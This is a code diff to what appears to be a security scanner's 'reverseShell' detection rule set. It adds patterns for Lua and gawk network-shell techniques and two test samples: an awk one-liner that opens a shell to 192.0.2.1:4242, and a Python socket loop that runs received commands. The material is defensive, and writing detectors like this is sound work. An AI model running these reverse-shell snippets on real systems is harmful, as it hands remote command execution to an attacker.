@@ -317,6 +317,13 @@ export const reverseShell: RuleSet = {
       when: any(
         near(
           6,
+          is([':receive('], null, { families: ['lua'] }),
+          is(['io.popen(', 'os.execute('], null),
+          is(['socket', ':connect('], null),
+        ),
+        near(3, is(['/inet/tcp/'], /["']\/inet\/tcp\//, { before: 1 }), is(['|&'], null), is(['getline'], null)),
+        near(
+          6,
           is(['.recv('], /\.recv\(\s{0,4}(?:\d{2,6}|\))/),
           is(
             ['subprocess', 'os.popen', 'os.system'],
@@ -339,6 +346,9 @@ export const reverseShell: RuleSet = {
         ),
       ),
       matches: [
+        sh(
+          `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4242"; while (42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }'`,
+        ),
         py(
           's = socket.socket()\ns.connect((HOST, PORT))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.check_output(cmd, shell=True)\n    s.send(out)',
         ),
